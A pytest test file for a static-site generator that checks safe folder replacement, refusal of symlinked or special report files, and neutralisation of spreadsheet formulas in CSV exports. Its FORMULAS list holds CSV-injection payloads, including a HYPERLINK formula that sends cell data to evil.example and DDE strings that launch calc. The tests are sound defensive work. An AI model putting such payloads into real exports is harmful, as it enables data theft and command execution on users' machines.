"""Lose nothing, leak nothing: only folders the build wrote are replaced, only regular files read,
downloads neither run formulas nor alter text."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from generator import bundle
from generator.errors import ReportError, TownfactsError
from generator.model import Fact, Meta, Report, Source
from generator.pages.export import (FORMULA_STARTS, all_reports_json, facts_csv, joined_csv, joined_json,
                                    report_json)
from generator.site.reports import find_reports, report_bytes
from generator.site.run import MARKER, check_site_dir
from generator.site.uptodate import record_build
from projectcopy import ROOT, copy_project, townfacts

SEED = ROOT / "seeds" / "001_56a725257718ee95.txt"


def test_out_that_is_not_a_townfacts_site_is_refused_before_any_work(tmp_path):
    """`build --out seeds` used to delete the reports and exit 0."""
    (tmp_path / "project").mkdir()
    work = copy_project(tmp_path / "project", seeds=False)
    (work / "seeds" / "a.txt").write_bytes(SEED.read_bytes())
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "notes.txt").write_text("mine", encoding="utf-8")
    (work / "a-file").write_text("mine", encoding="utf-8")
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and "generator" not in p.parts}
    for out in ("seeds", "translations", "../elsewhere", "a-file"):
        proc = townfacts(work, "build", "--out", out)
        lines = proc.stderr.strip().splitlines()
        assert proc.returncode == 1 and len(lines) == 1, proc.stderr
        assert lines[0].startswith("Error: ") and MARKER in lines[0], lines
        assert str((work / out).resolve()) in lines[0]
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and "generator" not in p.parts} == before
    assert not (work / "docs" / "towns").exists()  # refused before any work
    assert not list(work.glob(".*.building")) and not list(work.glob(".*.old"))


def test_only_a_new_empty_or_townfacts_folder_may_be_replaced(tmp_path):
    state = tmp_path / "state.json"
    check_site_dir(tmp_path / "new", state)
    (tmp_path / "empty").mkdir()
    check_site_dir(tmp_path / "empty", state)
    ours = tmp_path / "ours"
    ours.mkdir()
    (ours / MARKER).write_text("", encoding="utf-8")
    (ours / "index.html").write_text("<p>", encoding="utf-8")
    check_site_dir(ours, state)
    legacy = tmp_path / "legacy"  # built before the marker existed, recorded and untouched since
    legacy.mkdir()
    (legacy / "index.html").write_text("<p>", encoding="utf-8")
    record_build(state, legacy, "key")
    check_site_dir(legacy, state)
    (legacy / "extra.txt").write_text("added by hand", encoding="utf-8")
    with pytest.raises(TownfactsError, match="not a townfacts site"):
        check_site_dir(legacy, state)


def test_a_site_without_marker_built_by_plain_mkdocs_or_an_older_townfacts_may_be_replaced(tmp_path):
    from generator.site.vendor import VEGA_BUNDLE

    site = tmp_path / "site"  # what `mkdocs build` (no marker) or an older bundle leaves
    (site / "assets" / "vendor").mkdir(parents=True)
    (site / "index.html").write_text("<p>", encoding="utf-8")
    served = site / "assets" / "vendor" / VEGA_BUNDLE.name
    served.write_bytes(VEGA_BUNDLE.read_bytes())
    check_site_dir(site, tmp_path / "state.json")
    served.write_bytes(VEGA_BUNDLE.read_bytes()[:-1] + b"x")  # someone else's file of that name
    with pytest.raises(TownfactsError, match="not a townfacts site"):
        check_site_dir(site, tmp_path / "state.json")


@pytest.mark.parametrize("kind", ["file", "symlink", "foreign", "foreign leftover"])
def test_a_site_folder_not_ours_is_refused_not_moved_aside(tmp_path, kind):
    site = tmp_path / "site"
    if kind == "file":
        site.write_text("a file named like the site", encoding="utf-8")
    elif kind == "symlink":
        (tmp_path / "real").mkdir()
        site.symlink_to(tmp_path / "real")
    elif kind == "foreign":
        site.mkdir()
        (site / "notes.txt").write_text("mine", encoding="utf-8")
    else:
        (tmp_path / ".site.old").mkdir()
        (tmp_path / ".site.old" / "notes.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(TownfactsError) as err:
        check_site_dir(site, tmp_path / "state.json")
    assert "\n" not in str(err.value) and MARKER in str(err.value)
    assert {p.name for p in tmp_path.iterdir()} <= {"site", "real", ".site.old"}


def test_the_marker_is_not_zipped_into_the_offline_bundle(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / MARKER).write_text("", encoding="utf-8")
    (site / "index.html").write_text("<html></html>", encoding="utf-8")
    bundle.write_zip(site, tmp_path / "x.zip", "top", dt.date(2023, 11, 14))
    with zipfile.ZipFile(tmp_path / "x.zip") as zf:
        assert zf.namelist() == ["top/index.html"]


def test_the_bundle_refuses_a_zip_folder_that_is_a_file(tmp_path):
    (tmp_path / "dist").write_text("a file", encoding="utf-8")
    with pytest.raises(TownfactsError, match="is a file"):
        bundle.check_zip_path(tmp_path / "dist" / "townfacts-offline-2023-11-14.zip")
    (tmp_path / "out" / "townfacts-offline-2023-11-14.zip").mkdir(parents=True)
    with pytest.raises(TownfactsError, match="not a file the bundle wrote"):
        bundle.check_zip_path(tmp_path / "out" / "townfacts-offline-2023-11-14.zip")
    bundle.check_zip_path(tmp_path / "new" / "townfacts-offline-2023-11-14.zip")


def special_seeds(seeds: Path, secret: Path) -> None:
    """Put a symlink to a secret file, a FIFO and a socket among the reports, all named *.txt."""
    (seeds / "link.txt").symlink_to(secret)
    os.mkfifo(seeds / "fifo.txt")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(seeds / "socket.txt"))


def test_links_and_special_files_among_the_reports_are_refused_and_the_others_build(tmp_path):
    """A symlink to a file outside used to be published in full; a FIFO was skipped without a word."""
    (tmp_path / "project").mkdir()
    work = copy_project(tmp_path / "project", seeds=False)
    secret = tmp_path / "secret.txt"
    secret.write_text(SEED.read_text(encoding="utf-8").replace("织里镇", "秘密镇"), encoding="utf-8")
    (work / "seeds" / "a.txt").write_bytes(SEED.read_bytes())
    special_seeds(work / "seeds", secret)
    proc = subprocess.run([sys.executable, "-m", "generator", "build"], cwd=work, capture_output=True, text=True,
                          timeout=300)
    errors = [line for line in proc.stderr.splitlines() if line.startswith("Error:")]
    assert proc.returncode == 1, proc.stderr
    assert any("seeds/link.txt" in e and "symbolic link" in e for e in errors), errors
    assert any("seeds/fifo.txt" in e and "FIFO" in e for e in errors), errors
    assert any("seeds/socket.txt" in e and "socket" in e for e in errors), errors
    assert (work / "site" / "towns" / "wuxing-zhili" / "2021" / "index.html").is_file()
    leaked = [p for p in (work / "site").rglob("*") if p.is_file() and "秘密".encode() in p.read_bytes()]
    assert not leaked


def test_facts_refuses_a_fifo_without_waiting_for_a_writer(tmp_path):
    os.mkfifo(tmp_path / "x.txt")
    proc = subprocess.run([sys.executable, "-m", "generator", "facts", str(tmp_path / "x.txt")], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and proc.stdout == ""
    assert proc.stderr.strip() == f"Error: {tmp_path / 'x.txt'}: is a FIFO (named pipe), not a regular report file"


def test_report_bytes_reads_regular_files_only(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("秘密", encoding="utf-8")
    special_seeds(tmp_path, secret)
    (tmp_path / "folder.txt").mkdir()
    for name, reason in (("link.txt", "symbolic link"), ("fifo.txt", "FIFO"), ("socket.txt", "socket"),
                         ("folder.txt", "directory")):
        with pytest.raises(ReportError, match=reason) as err:
            report_bytes(tmp_path / name)
        assert err.value.path == str(tmp_path / name)
    assert report_bytes(secret) == "秘密".encode()
    assert [p.name for p in find_reports(tmp_path)] == ["fifo.txt", "link.txt", "socket.txt"]


def report_with(text: str, slug: str = "zhili", growth: float = -3.5) -> Report:
    """Return a one-fact report whose indicator, quote and place carry the text."""
    meta = Meta(place=text + "镇", slug=slug, source=f"seeds/{slug}.txt", sha256="ab" * 32, place_en=text)
    fact = Fact(f"{slug}-0001", text, -12.5, "亿元", "actual", Source(3, text + "完成-12.5亿元", "p-1"),
                growth_pct=growth, period=text, indicator_en=text)
    return Report(meta, facts=(fact,))


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(formula):
    text = facts_csv([report_with(formula)])
    assert joined_csv([text]) == text
    (row,) = csv.DictReader(io.StringIO(text))
    for key in ("place", "place_en", "indicator", "indicator_en", "period", "source_quote"):
        assert not row[key].startswith(FORMULA_STARTS), (key, row[key])
        assert row[key].startswith("'") and row[key][1:].startswith(formula[:1]), (key, row[key])
    assert row["indicator"] == "'" + formula  # nothing else changes: the quote is the only addition
    assert row["value"] == "-12.5" and row["growth_pct"] == "-3.5"  # numbers stay numbers, signs and all


def test_plain_text_cells_are_left_as_they_are():
    (row,) = csv.DictReader(io.StringIO(facts_csv([report_with("地区生产总值 'x'")])))
    assert row["indicator"] == "地区生产总值 'x'" and row["growth_pct"] == "-3.5"


@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"])
def test_all_towns_json_keeps_every_string_as_it_is(char):
    """The all-towns facts.json is joined from the per-town files: it used to insert 4 spaces after U+2028."""
    reports = [report_with(f"甲{char}乙", "a"), report_with(f"丙{char}{char}丁", "b")]
    joined = joined_json([report_json(r, shown=True) for r in reports])
    assert joined == all_reports_json(reports)
    doc = json.loads(joined)
    assert [r["facts"][0]["indicator"] for r in doc["reports"]] == [f"甲{char}乙", f"丙{char}{char}丁"]
    assert doc["reports"][0] == json.loads(report_json(reports[0], shown=True))
